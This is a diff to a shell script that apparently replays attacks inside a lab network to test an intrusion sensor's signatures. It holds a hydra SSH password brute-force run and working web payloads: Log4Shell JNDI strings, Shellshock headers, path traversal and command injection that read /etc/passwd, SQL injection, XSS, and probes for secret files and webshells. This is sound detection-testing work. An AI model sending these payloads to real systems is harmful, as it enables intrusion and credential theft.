@@ -92,10 +92,11 @@ measure_masscan() {
 # --- 4. hydra against SSH ---------------------------------------------------------
 
 scenario_hydra_ssh() {
+    SSHD_LOG_BEFORE=$(wc -l <"$WORK/sshd.log")
     cp "$HERE/passwords.txt" "$WORK/hydra-passwords.txt"
     printf '%s\n' "$SSH_PASSWORD" >>"$WORK/hydra-passwords.txt"
     # hydra writes a restore file in the current directory.
-    (cd "$WORK" && in_ns "$NS_ATT" timeout 180 hydra -I -l "$SSH_USER" -P "$WORK/hydra-passwords.txt" \
+    (cd "$WORK" && in_ns "$NS_ATT" timeout 180 hydra -I -w 4 -l "$SSH_USER" -P "$WORK/hydra-passwords.txt" \
         -t 4 -o "$WORK/hydra.found" "ssh://$VIC_IP" >"$WORK/hydra.log" 2>&1) ||
         die "hydra failed: $(tail -5 "$WORK/hydra.log")"
 }
@@ -112,13 +113,18 @@ measure_hydra_ssh() {
     fact hydra_ssh connections_with_data "$conns"
     fact hydra_ssh established "$synacks"
     fact hydra_ssh passwords_found "$found"
+    # What the server saw: hydra loses the guess that sshd answers by
+    # closing the connection (MaxAuthTries) and tries it again.
+    fact hydra_ssh server_password_checks "$(tail -n +"$((SSHD_LOG_BEFORE + 1))" "$WORK/sshd.log" |
+        grep -cE '(Failed|Accepted) password for' || true)"
     fact hydra_ssh command "hydra -l $SSH_USER -P passwords.txt(+1 right) -t 4 ssh://$VIC_IP"
 }
 
 # --- 5. web exploits ----------------------------------------------------------------
 
-# web SIGNATURES CURL-ARGS...: one exploit request, and the signature ids
-# (comma-separated) that it carries.
+# web SIGNATURES CURL-ARGS...: one exploit request, and the ids of the
+# signatures (crates/vigie-sensor/data/signatures.toml) of the attacks it
+# carries, comma-separated.
 web() {
     local sigs=$1; shift
     lab_curl "$NS_ATT" "$@"
@@ -134,31 +140,33 @@ scenario_web_exploits() {
     web web.log4shell -A "$jndi" "$v/"
     web web.log4shell -A "$BROWSER_UA" -H "X-Api-Version: $jndi" "$v/"
     web web.log4shell -A "$BROWSER_UA" "$v/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.66.1.2%3A1389%2Fa%7D"
-    # Shellshock (CVE-2014-6271).
-    web web.shellshock -A "() { :; }; /bin/bash -c 'id'" "$v/cgi-bin/status"
-    web web.shellshock -A "$BROWSER_UA" -H "Referer: () { :; }; /bin/bash -c 'uname -a'" "$v/cgi-bin/test.cgi"
+    # Shellshock (CVE-2014-6271); the first two also carry a shell command.
+    web web.shellshock,web.command_injection -A "() { :; }; /bin/bash -c 'id'" "$v/cgi-bin/status"
+    web web.shellshock,web.command_injection -A "$BROWSER_UA" \
+        -H "Referer: () { :; }; /bin/bash -c 'uname -a'" "$v/cgi-bin/test.cgi"
     web web.shellshock -A "() { :;}; echo; /usr/bin/id" "$v/"
-    # Path traversal.
-    web web.path_traversal,web.sensitive_file -A "$BROWSER_UA" --path-as-is "$v/../../../../etc/passwd"
-    web web.path_traversal,web.sensitive_file -A "$BROWSER_UA" "$v/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
+    # Path traversal, plain and percent-encoded; reading /etc/passwd is also
+    # a system-file read.
+    web web.path_traversal,web.system_file -A "$BROWSER_UA" --path-as-is "$v/../../../../etc/passwd"
+    web web.path_traversal,web.system_file -A "$BROWSER_UA" "$v/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
     web web.path_traversal -A "$BROWSER_UA" "$v/download?file=..%2f..%2f..%2f..%2fvar%2fwww%2fconfig.ini"
-    # SQL injection, as sqlmap or a hand would encode it.
-    web web.sql_injection -A "$BROWSER_UA" "$v/article?id=1'%20OR%20'1'='1"
-    web web.sql_injection -A "$BROWSER_UA" "$v/article?id=1%27%20OR%20%271%27%3D%271"
-    web web.sql_injection -A "$BROWSER_UA" "$v/article?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"
-    web web.sql_injection -A "$BROWSER_UA" "$v/search?q=x%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-"
+    # SQL injection, as a hand or sqlmap would encode it.
+    web web.sqli_tautology -A "$BROWSER_UA" "$v/article?id=1'%20OR%20'1'='1"
+    web web.sqli_tautology -A "$BROWSER_UA" "$v/article?id=1%27%20OR%20%271%27%3D%271"
+    web web.sqli_union -A "$BROWSER_UA" "$v/article?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"
+    web web.sqli_union -A "$BROWSER_UA" "$v/search?q=x%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-"
     # Command injection.
-    web web.command_injection,web.sensitive_file -A "$BROWSER_UA" "$v/ping?host=127.0.0.1;cat%20/etc/passwd"
-    web web.command_injection -A "$BROWSER_UA" "$v/ping?host=127.0.0.1%3Bid"
+    web web.command_injection,web.system_file -A "$BROWSER_UA" "$v/ping?host=127.0.0.1;cat%20/etc/passwd"
+    web web.command_injection -A "$BROWSER_UA" "$v/ping?host=127.0.0.1%24%28id%29"
     web web.command_injection -A "$BROWSER_UA" "$v/cgi-bin/ping?ip=127.0.0.1%7Cuname%20-a"
     # Cross-site scripting.
     web web.xss -A "$BROWSER_UA" "$v/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
     web web.xss -A "$BROWSER_UA" "$v/search?q=<script>alert(1)</script>"
     web web.xss -A "$BROWSER_UA" "$v/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
-    # Probing for secrets left on the server.
-    web web.sensitive_file -A "$BROWSER_UA" "$v/.env"
-    web web.sensitive_file -A "$BROWSER_UA" "$v/.git/config"
-    web web.sensitive_file -A "$BROWSER_UA" "$v/wp-config.php"
+    # Probing for secrets and source code left on the server.
+    web web.secret_file -A "$BROWSER_UA" "$v/.env"
+    web web.source_repository -A "$BROWSER_UA" "$v/.git/config"
+    web web.secret_file -A "$BROWSER_UA" "$v/wp-config.php"
     # Looking for a webshell left by an earlier intrusion.
     web web.webshell -A "$BROWSER_UA" "$v/c99.php"
     web web.webshell -A "$BROWSER_UA" "$v/r57.php"
